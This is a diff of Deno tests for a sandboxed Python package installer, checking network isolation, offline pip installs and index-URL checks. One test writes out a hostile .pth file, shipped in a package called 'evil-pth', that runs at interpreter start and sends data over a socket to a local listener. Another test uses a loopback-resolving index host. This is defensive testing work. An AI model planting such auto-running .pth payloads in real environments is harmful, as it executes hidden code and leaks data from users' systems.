@@ -84,14 +84,21 @@ Deno.test({
     assert.deepEqual(changed, ["a"]);
     assert.ok(a.events.some((e) => e.type === "log" && /Successfully installed/.test(e.data)));
 
-    // only pip had network, and every step kept its working directory off the workspace
-    const pipSpecs = runner.specs.filter((s) => s.argv.includes("pip"));
-    assert.equal(pipSpecs.length, 1);
-    assert.deepEqual(
-      runner.specs.filter((s) => s.network).map((s) => s.argv),
-      pipSpecs.map((s) => s.argv),
-    );
+    // only the download had network: the system's python3, the venv neither mounted nor
+    // in its environment; the venv's pip installed offline; no step ran in the workspace
+    const networked = runner.specs.filter((s) => s.network);
+    assert.equal(networked.length, 1);
+    const download = networked[0]!;
+    assert.equal(download.argv[0], "python3");
+    assert.ok(download.argv.includes("download"));
+    assert.ok((download.mounts ?? []).every((m) => m.sandbox !== "/venv"));
+    assert.ok(Object.values(download.env).every((v) => !v.includes("/venv")));
+    const installs = runner.specs.filter((s) => s.argv.includes("install"));
+    assert.equal(installs.length, 1);
+    assert.ok(installs[0]!.argv.includes("--no-index") && !installs[0]!.network);
     assert.ok(runner.specs.every((s) => s.cwd === "/tmp"));
+    // the download directory is gone afterwards
+    await assert.rejects(Deno.lstat(`${a.ctx.stateDir}/pip-downloads`), Deno.errors.NotFound);
 
     const inA = await importIn(a, runner, "import demo_pkg; print(demo_pkg.VALUE)");
     assert.equal(inA.stdout.trim(), "Demo_Pkg 1.2.0", inA.stderr);
@@ -118,10 +125,95 @@ Deno.test({
     });
     assert.ok(outcome.ok);
     assert.equal(outcome.is_error, true);
-    assert.match(outcome.error_text ?? "", /^INSTALL_FAILED: pip exited with code 1/);
-    assert.ok(outcome.result.failed.includes("no-such-pkg"));
+    assert.match(
+      outcome.error_text ?? "",
+      /^INSTALL_FAILED: Cannot download the packages \(exit code 1\)/,
+    );
+    assert.deepEqual(outcome.result.failed, ["demo-pkg", "no-such-pkg"]);
+    assert.deepEqual(outcome.result.installed, []);
     assert.equal(outcome.result.exit_code, 1);
     assert.match(outcome.result.output_tail, /no-such-pkg/);
+  },
+});
+
+Deno.test({
+  name: "pkgInstall() does not report a version pip could not install as installed",
+  ignore,
+  async fn() {
+    // the reviewer's case: the system has some pytest; pip cannot get pytest==99.0
+    await using index = await startPypiIndex([{ name: "pytest", version: "1.0.0" }]);
+    await using sessions = await createPythonSessions();
+    const a = await sessions.session("a");
+    const outcome = await pkgInstall(a.ctx, { packages: ["pytest==99.0"] }, {
+      runner: createSandboxRunner({ insecureNoSandbox: false }),
+      pipIndexUrl: index.url,
+    });
+    assert.ok(outcome.ok);
+    assert.equal(outcome.is_error, true);
+    assert.match(outcome.error_text ?? "", /^INSTALL_FAILED: /);
+    assert.deepEqual(outcome.result.installed, []);
+    assert.deepEqual(outcome.result.failed, ["pytest"]);
+    assert.notEqual(outcome.result.exit_code, 0);
+  },
+});
+
+Deno.test({
+  name: "pkgInstall() never runs code an installed wheel added while pip has network",
+  ignore,
+  async fn() {
+    // a .pth file runs at every interpreter start in the venv; this one phones home
+    using listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
+    const port = listener.addr.port;
+    // what each connection said: the MARK variable of the process that made it
+    const heard: string[] = [];
+    const { promise: heardOld, resolve: oldArrived } = Promise.withResolvers<void>();
+    const accepting = (async () => {
+      for await (const conn of listener) {
+        const said = await new Response(conn.readable).text().catch(() => "?");
+        heard.push(said);
+        if (said === "old") oldArrived();
+      }
+    })().catch(() => {});
+    const pth = `import os, sys, socket; sys.stderr.write("pth-ran\\n"); ` +
+      `s = socket.create_connection(("127.0.0.1", ${port}), timeout=2); ` +
+      `s.sendall(os.environ.get("MARK", "pip").encode()); s.close()\n`;
+    await using index = await startPypiIndex([
+      { name: "evil-pth", version: "1.0", files: { "evil_pth.pth": pth } },
+      { name: "demo-pkg", version: "1.0.0" },
+    ]);
+    await using sessions = await createPythonSessions();
+    const a = await sessions.session("a");
+    const runner = createSandboxRunner({ insecureNoSandbox: false });
+    const deps = { runner, pipIndexUrl: index.url };
+
+    const evil = await pkgInstall(a.ctx, { packages: ["evil-pth"] }, deps);
+    assert.ok(evil.ok && !evil.is_error, evil.ok ? evil.error_text ?? "" : "");
+    const second = await pkgInstall(a.ctx, { packages: ["demo-pkg"] }, deps);
+    assert.ok(second.ok);
+    assert.equal(second.is_error, undefined, second.error_text ?? "");
+    assert.deepEqual(second.result.installed, [{ name: "demo-pkg", version: "1.0.0" }]);
+    // the .pth did run in the offline steps, where it could not connect
+    assert.match(second.result.output_tail, /pth-ran/);
+
+    // the check can see an escape: the venv's interpreter started the way pip used to be
+    // (`/venv/bin/python3 -I` with network) reaches the listener. Connections are accepted
+    // in order, so once this one is heard, any made during the installs was heard before.
+    const old = await runner.run({
+      argv: ["/venv/bin/python3", "-I", "-c", "pass"],
+      workspace: a.ctx.workspace,
+      cwd: "/tmp",
+      env: { ...sandboxEnv(true), MARK: "old" },
+      mounts: [venvMount(a.ctx, false)],
+      network: true,
+      limits: sandboxLimits(a.ctx.limits),
+      timeoutMs: 30_000,
+      outputLimitBytes: 65_536,
+    });
+    assert.equal(old.exitCode, 0, old.stderr);
+    await heardOld;
+    listener.close();
+    await accepting;
+    assert.equal(heard[0], "old", `connections during the installs: ${heard.join(", ")}`);
   },
 });
 
@@ -157,8 +249,10 @@ Deno.test("pkgInstall() refuses option injection and bad indexes before starting
   assert.equal(await venvExists(a.ctx), false);
 });
 
-/** A runner that plays the three pkg.install steps without starting anything. */
-function scriptedRunner(options: { createExit?: number; pipExit?: number } = {}) {
+/** A runner that plays the four pkg.install steps without starting anything. */
+function scriptedRunner(
+  options: { downloadExit?: number; createExit?: number; pipExit?: number } = {},
+) {
   const calls: string[] = [];
   const runner: SandboxRunner = {
     kind: "bubblewrap",
@@ -173,6 +267,13 @@ function scriptedRunner(options: { createExit?: number; pipExit?: number } = {})
         truncated: false,
         durationMs: 1,
       };
+      if (spec.network) {
+        calls.push("download");
+        const exitCode = options.downloadExit ?? 0;
+        const stderr = exitCode ? "ERROR: No matching distribution found for demo\n" : "";
+        spec.onOutput?.("stderr", stderr);
+        return { ...base, exitCode, stderr };
+      }
       if (spec.argv.at(-1) === "/venv") {
         calls.push("create");
         const exitCode = options.createExit ?? 0;
@@ -180,16 +281,21 @@ function scriptedRunner(options: { createExit?: number; pipExit?: number } = {})
         else await Deno.writeTextFile(`${venvHost}/partial`, "");
         return { ...base, exitCode, stderr: exitCode ? "Error: venv module is broken\n" : "" };
       }
-      if (spec.argv.includes("pip")) {
+      if (spec.argv.includes("install")) {
         calls.push("pip");
         const exitCode = options.pipExit ?? 0;
-        spec.onOutput?.("stdout", exitCode ? "" : "Successfully installed demo-1.0\n");
+        const stdout = exitCode ? "" : "Successfully installed demo-1.0\n";
+        spec.onOutput?.("stdout", stdout);
         spec.onOutput?.("stderr", exitCode ? "ERROR: No matching distribution found\n" : "");
-        return { ...base, exitCode };
+        return { ...base, exitCode, stdout };
       }
       calls.push("list");
-      const found = options.pipExit ? {} : { demo: { name: "demo", version: "1.0" } };
-      return { ...base, exitCode: 0, stdout: `${JSON.stringify(found)}\n` };
+      const row = { name: "demo", version: "1.0", satisfied: true };
+      return {
+        ...base,
+        exitCode: 0,
+        stdout: `${JSON.stringify([options.pipExit ? null : row])}\n`,
+      };
     },
   };
   return { runner, calls };
@@ -210,11 +316,11 @@ Deno.test("pkgInstall() creates the venv once when two first installs race", asy
     pkgInstall(a.ctx, { packages: ["demo"] }, deps),
   ]);
   assert.ok(one.ok && two.ok && !one.is_error && !two.is_error);
-  assert.deepEqual(calls, ["create", "pip", "list", "pip", "list"]);
+  assert.deepEqual(calls, ["download", "create", "pip", "list", "download", "pip", "list"]);
   assert.deepEqual(changed, ["a", "a"]);
   assert.deepEqual(one.result.installed, [{ name: "demo", version: "1.0" }]);
   const progress = a.events.filter((e) => e.type === "progress").map((e) => e.progress);
-  assert.deepEqual(progress, [0, 1, 2, 3, 1, 2, 3]);
+  assert.deepEqual(progress, [0, 1, 2, 3, 4, 0, 2, 3, 4]);
 });
 
 Deno.test("pkgInstall() removes a half-made venv so the next install starts afresh", async () => {
@@ -229,7 +335,7 @@ Deno.test("pkgInstall() removes a half-made venv so the next install starts afre
     "INSTALL_FAILED: Cannot create the environment (exit code 1): Error: venv module is broken",
   );
   assert.deepEqual(outcome.result.failed, ["demo"]);
-  assert.deepEqual(broken.calls, ["create"]);
+  assert.deepEqual(broken.calls, ["download", "create"]);
   await assert.rejects(Deno.lstat(`${a.ctx.stateDir}/venv`), Deno.errors.NotFound);
 
   const pipFails = scriptedRunner({ pipExit: 1 });
@@ -244,9 +350,57 @@ Deno.test("pkgInstall() removes a half-made venv so the next install starts afre
     /^INSTALL_FAILED: pip exited with code 1: ERROR: No matching/,
   );
   assert.deepEqual(second.result.failed, ["demo"]);
-  assert.deepEqual(pipFails.calls, ["create", "pip", "list"]);
+  assert.deepEqual(pipFails.calls, ["download", "create", "pip", "list"]);
   // the venv was new, so interpreters must still restart
   assert.deepEqual(changed, ["a"]);
+});
+
+Deno.test("pkgInstall() neither creates nor touches the venv when the download fails", async () => {
+  await using sessions = await createPythonSessions();
+  const a = await sessions.session("a");
+  const { runner, calls } = scriptedRunner({ downloadExit: 1 });
+  const outcome = await pkgInstall(a.ctx, { packages: ["demo"] }, { runner });
+  assert.ok(outcome.ok);
+  assert.match(
+    outcome.error_text ?? "",
+    /^INSTALL_FAILED: Cannot download the packages \(exit code 1\): ERROR: No matching/,
+  );
+  assert.deepEqual(outcome.result, {
+    installed: [],
+    failed: ["demo"],
+    exit_code: 1,
+    output_tail: "ERROR: No matching distribution found for demo\n",
+  });
+  assert.deepEqual(calls, ["download"]);
+  assert.equal(await venvExists(a.ctx), false);
+});
+
+Deno.test("pkgInstall() refuses a caller's index whose host resolves to loopback", async () => {
+  await using sessions = await createPythonSessions();
+  const a = await sessions.session("a");
+  for (const [exitCode, reason] of [[86, /resolves to a loopback/], [87, /does not resolve/]]) {
+    const { runner, calls } = scriptedRunner({ downloadExit: exitCode as number });
+    const outcome = await callTool(() =>
+      pkgInstall(a.ctx, { packages: ["demo"], index_url: "http://sneaky.example/simple/" }, {
+        runner,
+      })
+    );
+    assert.equal(outcome.ok, false);
+    if (!outcome.ok) {
+      assert.equal(outcome.error.code, "INVALID_ARGUMENT");
+      assert.match(outcome.error.message, /^Cannot use index_url "http:\/\/sneaky.example/);
+      assert.match(outcome.error.message, reason as RegExp);
+    }
+    assert.deepEqual(calls, ["download"]);
+  }
+  assert.equal(await venvExists(a.ctx), false);
+  // the operator's own index is not checked: the same exit code is a plain failure
+  const operator = scriptedRunner({ downloadExit: 86 });
+  const outcome = await pkgInstall(a.ctx, { packages: ["demo"] }, {
+    runner: operator.runner,
+    pipIndexUrl: "http://mirror.internal/simple/",
+  });
+  assert.ok(outcome.ok && outcome.is_error);
 });
 
 Deno.test({
